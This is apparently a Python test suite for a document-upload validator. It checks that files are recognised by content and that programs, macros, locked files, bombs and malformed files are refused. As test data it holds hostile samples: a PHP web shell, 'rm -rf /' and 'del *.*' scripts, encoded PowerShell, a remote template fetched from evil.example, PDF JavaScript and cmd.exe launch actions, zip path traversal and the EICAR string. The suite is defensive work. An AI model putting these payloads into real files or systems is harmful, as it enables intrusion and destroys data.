"""What a file really is: taken by its content, refused by its content, whatever it is called."""

import io
import time
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ehcp.documents.bad_file import BadFile
from ehcp.documents.content import TAKEN, what_is
from ehcp.documents.inside_zip import MOST_PARTS
from tests.documents.files import (
    A_PROGRAM,
    CONTENT_TYPES,
    EICAR,
    GOOD,
    a_bomb,
    a_docx_with,
    a_jpeg,
    a_locked_docx,
    a_pdf,
    a_png,
    a_zip,
    an_odt,
)
from tests.examples import examples


@pytest.fixture
def seen(tmp_path):
    """Give what a file of these bytes is."""

    def look(content: bytes):
        path = tmp_path / "file"
        path.write_bytes(content)
        return what_is(path)

    return look


@pytest.mark.parametrize("suffix", GOOD)
def test_each_kind_that_is_taken_is_known_by_its_content(seen, suffix):
    assert seen(GOOD[suffix]).suffix == suffix


def test_every_kind_that_is_taken_is_tried_here():
    assert {kind.suffix for kind in TAKEN} == set(GOOD)


def refusal_of(look) -> str:
    """Give the sentence of a refusal; where it is not refused, that it is taken."""
    try:
        assert look() in TAKEN
    except BadFile as bad:
        return str(bad)
    return "taken."


def locked_zip() -> bytes:
    """Mark the parts of a document as locked, as an archiver with a password does."""
    plain = bytearray(GOOD[".docx"])
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = plain.find(mark)
        while at >= 0:
            plain[at + flags] |= 1
            at = plain.find(mark, at + 4)
    return bytes(plain)


def twice_the_same_part() -> bytes:
    out = io.BytesIO(GOOD[".docx"])
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "another")
    return out.getvalue()


MACRO_TYPES = '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.12"/>'
FETCHED = (
    '<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
PROGRAMS = {
    "a program for Windows": A_PROGRAM,
    "a program for Linux": b"\x7fELF\x02\x01\x01" + bytes(100),
    "a program for a Mac": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(100),
    "Java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(50),
    "a shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100),
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "a batch file": b"@echo off\r\ndel *.*\r\n",
    "a visual basic script": b'Set x = CreateObject("WScript.Shell")\r\n',
    "a powershell script": b"powershell -enc SQBFAFgA\r\n",
    "a web page": b"<!DOCTYPE html><html><body>hello</body></html>",
    "a web page behind words": b"Dear colleague\n<script>alert(1)</script>",
    "a picture that runs": b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
    "a server's page": b"<?php system($_GET['c']); ?>",
    "a saved mail": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>x</b>",
    "macros": a_docx_with({"word/vbaProject.bin": b"x"}),
    "macros by another name": a_docx_with({"word/x.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "a kind with macros": a_docx_with({CONTENT_TYPES: MACRO_TYPES}),
    "macros of an odt": an_odt({"Basic/Standard/Module1.xml": "<x/>"}),
    "a template from the web": a_docx_with({"word/_rels/settings.xml.rels": FETCHED}),
    "a template from the web, quoted otherwise": a_docx_with(
        {"word/_rels/settings.xml.rels": FETCHED.replace('"', "'").replace("Target=", "Target = ")}
    ),
    "an object put inside": a_docx_with({"word/embeddings/oleObject1.bin": b"x"}),
    "a program put inside": a_docx_with({"word/media/image1.png": A_PROGRAM}),
    "a workbook with macros inside": a_docx_with(
        {"word/embeddings/Book1.xlsx": a_zip({"xl/vbaProject.bin": b"x"})}
    ),
    "a PDF that runs": a_pdf("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "a PDF that runs, spelt otherwise": a_pdf("<< /S /J#61v#61Script /JS (x) >>"),
    "a PDF that runs, packed": a_pdf(packed=b"4 0 << /S /JavaScript /JS (x) >>"),
    "a PDF that starts a program": a_pdf("<< /S /Launch /F (cmd.exe) >>"),
    "a PDF with files": a_pdf("<< /Names << /EmbeddedFiles 5 0 R >> >>"),
}
LOCKED = {
    "a PDF": a_pdf(trailer="/Encrypt 5 0 R "),
    "a PDF with its lock inside": a_pdf(trailer="/Encrypt << /Filter /Standard >> "),
    "a Word document": a_locked_docx(),
    "a zip": locked_zip(),
    "an odt": an_odt({"META-INF/manifest.xml": "<m xmlns='urn:x'><encryption-data/></m>"}),
}
OF_NO_KIND = {
    "a zip": a_zip({"advice.pdf": GOOD[".pdf"]}),
    "a workbook": a_zip({CONTENT_TYPES: "<Types/>", "xl/workbook.xml": "<x/>"}),
    "an old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000),
    "a rar": b"Rar!\x1a\x07\x00" + bytes(50),
    "a 7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
    "a gzip": b"\x1f\x8b\x08\x00" + bytes(50),
    "a tar": b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + bytes(300),
    "a gif": b"GIF89a" + bytes(50),
    "an iPhone's photograph": b"\x00\x00\x00\x18ftypheic" + bytes(50),
    "rich text": b"{\\rtf1\\ansi hello}",
    "a sound": b"ID3\x04" + bytes(50),
    "noise": bytes(range(256)) * 4,
}
BROKEN = {
    "half a PDF": GOOD[".pdf"][: len(GOOD[".pdf"]) // 2],
    "half a document": GOOD[".docx"][:-30],
    "an archive behind words": b"PK\x03\x04" + GOOD[".docx"],
    "half a photograph": GOOD[".jpg"][:-2],
    "half a picture": GOOD[".png"][:-8],
    "a picture with something behind it": GOOD[".png"] + b"more",
    "a part that leads away": a_docx_with({"../../evil": "x"}),
}
TWO = {
    "a PDF and an archive": GOOD[".pdf"] + a_zip({"x": b"y"}),
    "a photograph and an archive": a_jpeg() + a_zip({"x": b"y"}),
    "an archive behind words": b"words " + GOOD[".docx"],
    "text and a PDF": b"words\n%PDF-1.4\nwords",
}


def packed_otherwise(way: int) -> bytes:
    """Make a bomb of another way to pack, of which Python would unpack a piece whole."""
    out = io.BytesIO(GOOD[".docx"])
    with zipfile.ZipFile(out, "a", way) as archive:
        archive.writestr("word/media/image1.png", b"\0" * 5_000_000)
    return out.getvalue()


def many_streams_in_one() -> bytes:
    """Make a PDF of a few megabytes whose every packed stream reaches to its very end."""
    head, _, tail = GOOD[".pdf"].partition(b"xref\n")
    return head + b"<< /Type /ObjStm >> stream\n" * 100_000 + b"endstream\nxref\n" + tail


def a_long_list() -> bytes:
    return a_docx_with({f"word/{n:0200d}": "" for n in range(25_000)})


LARGE = {
    "another way to pack": packed_otherwise(zipfile.ZIP_BZIP2),
    "and another": packed_otherwise(zipfile.ZIP_LZMA),
    "streams in streams": many_streams_in_one(),
    "marks without streams": GOOD[".pdf"].replace(b"xref\n", b"/ObjStm " * 100_000 + b"xref\n", 1),
    "a list longer than any document has": a_long_list(),
    "a workbook inside that unpacks to too much": a_docx_with(
        {"word/embeddings/Book1.xlsx": a_zip({"xl/a.xml": b"\0" * 30_000_000})}
    ),
    "a bomb": a_bomb(),
    "a picture too large to be shown": a_png(60_000, 60_000),
    "a photograph too large to be shown": a_jpeg(65_000, 65_000),
    "too many parts": a_docx_with({f"word/{n}.xml": "" for n in range(MOST_PARTS)}),
    "a PDF that unpacks to far more": a_pdf(packed=b"\0" * 70_000_000),
}


@pytest.mark.parametrize("what", PROGRAMS)
def test_what_runs_is_refused(seen, what):
    with pytest.raises(BadFile):
        seen(PROGRAMS[what])


@pytest.mark.parametrize("what", LOCKED)
def test_what_is_locked_is_refused_and_says_so(seen, what):
    with pytest.raises(BadFile, match=r"locked by a password.* hand that in"):
        seen(LOCKED[what])


@pytest.mark.parametrize("what", OF_NO_KIND)
def test_what_is_no_document_is_refused_and_the_sentence_says_what_is_taken(seen, what):
    with pytest.raises(BadFile, match=r"PDF.*Word.*OpenDocument.*JPEG.*plain"):
        seen(OF_NO_KIND[what])


@pytest.mark.parametrize("what", BROKEN)
def test_what_is_not_whole_is_refused(seen, what):
    with pytest.raises(BadFile, match=r"not whole|again"):
        seen(BROKEN[what])


def test_a_document_with_two_parts_of_one_name_is_refused(seen):
    with pytest.raises(BadFile, match="not whole"):
        seen(twice_the_same_part())


def test_a_document_with_a_changed_byte_is_refused(seen):
    changed = bytearray(a_docx_with({"word/x.xml": "a" * 500}))
    at = changed.find(b"word/x.xml") + 12
    changed[at] ^= 0xFF
    with pytest.raises(BadFile):
        seen(bytes(changed))


@pytest.mark.parametrize("what", TWO)
def test_two_kinds_in_one_are_refused(seen, what):
    with pytest.raises(BadFile):
        seen(TWO[what])


@pytest.mark.parametrize("what", LARGE)
def test_what_unpacks_to_too_much_is_refused_before_it_is_unpacked(seen, what):
    with pytest.raises(BadFile, match=r"far more|too large|not whole"):
        seen(LARGE[what])


def test_no_file_keeps_the_counter_busy(seen):
    """Large files, made to be slow to look at: each look takes time as the size, no more."""
    most = 5_000_000
    slow = [
        b"< " * (most // 2),
        b" " * most,
        b"/Encrypt 1" + b"1" * (most - 20) + b" startxref %%EOF",
        b"%PDF-1.7\n" + b"/ObjStm" * (most // 7) + b" startxref\n%%EOF",
        *(
            b"%PDF-1.7\n/URI /OpenAction 4 0 R " + each * (most // len(each)) + b" startxref\n%%EOF"
            for each in (
                b"/F(a",
                b"/AA<<",
                b"/AA 4 0 R ",
                b"4 0 obj ",
                b"4 0 obj<<",
                b"/AA<</A((((",
            )
        ),
        b"%PDF-1.7\n" + b"/Encrypt" * (most // 8) + b" startxref\n%%EOF",
        GOOD[".png"][:33] + (b"\0\0\0\0tEXt\0\0\0\0") * (most // 12),
        b"\xff\xd8" + b"\xff\xe0\x00\x02" * (most // 4),
        a_docx_with({"word/_rels/x.rels": b"<Relationship " * 100_000}),
    ]
    for content in slow:
        began = time.monotonic()
        refusal_of(lambda content=content: seen(content))
        assert time.monotonic() - began < 4, content[:40]


def test_the_test_virus_is_found_inside_a_document(seen):
    with pytest.raises(BadFile, match="virus"):
        seen(a_docx_with({"word/media/note.txt": b"x" * 100_000 + EICAR}))


def test_nothing_stands_behind_the_bound_of_what_is_looked_at(seen):
    """A list of parts that is longer than what is read of one is refused."""
    long = FETCHED.replace("<Relationships>", "<Relationships>" + " " * (4 * 1024 * 1024))
    with pytest.raises(BadFile):
        seen(a_docx_with({"word/_rels/settings.xml.rels": long}))


def test_the_numbers_behind_a_chart_are_no_danger(seen):
    chart = a_zip({CONTENT_TYPES: "<Types/>", "xl/workbook.xml": "<x/>"})
    assert seen(a_docx_with({"word/embeddings/Book1.xlsx": chart})).suffix == ".docx"


def test_a_template_in_the_office_is_no_danger(seen):
    here = FETCHED.replace("https://evil.example/t.dotm", "file:///C:/Templates/trust.dotx")
    assert seen(a_docx_with({"word/_rels/settings.xml.rels": here})).suffix == ".docx"


def test_an_ordinary_form_of_a_pdf_is_taken(seen):
    packed = b"4 0 << /FT /Tx /T (Name) /AA 5 0 R >> << /Title (EncryptMetadata) >>"
    assert seen(a_pdf("<< /EncryptMetadata true >>", packed=packed)).suffix == ".pdf"


@pytest.mark.parametrize(
    "words",
    [
        "MZ was seen at home on 3 March; he was calm.",
        "He asked: what if 3 < 4? His script was neat.",
        "He spelt <cat> and >dog<.",
        "Rem was his word for remember.",
        "He evaluates (slowly) what he reads.",
    ],
)
def test_what_people_write_is_plain_text(seen, words):
    assert seen(words.encode()).suffix == ".txt"
    assert seen(words.encode("utf-16")).suffix == ".txt"


@settings(
    max_examples=examples(60),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    start=st.sampled_from([b"", b"%PDF-1.7", b"PK\x03\x04", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"]),
    noise=st.binary(max_size=300),
    end=st.sampled_from([b"", b"PK\x05\x06" + bytes(18), b"startxref\n%%EOF"]),
)
def test_whatever_the_bytes_are_they_are_a_kind_or_refused_with_a_sentence(seen, start, noise, end):
    assert refusal_of(lambda: seen(start + noise + end)).endswith(".")


@settings(
    max_examples=examples(60),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(suffix=st.sampled_from(sorted(GOOD)), data=st.data())
def test_a_good_file_with_bytes_changed_is_that_kind_or_refused(seen, suffix, data):
    content = bytearray(GOOD[suffix])
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    assert refusal_of(lambda: seen(bytes(content))).endswith(".")
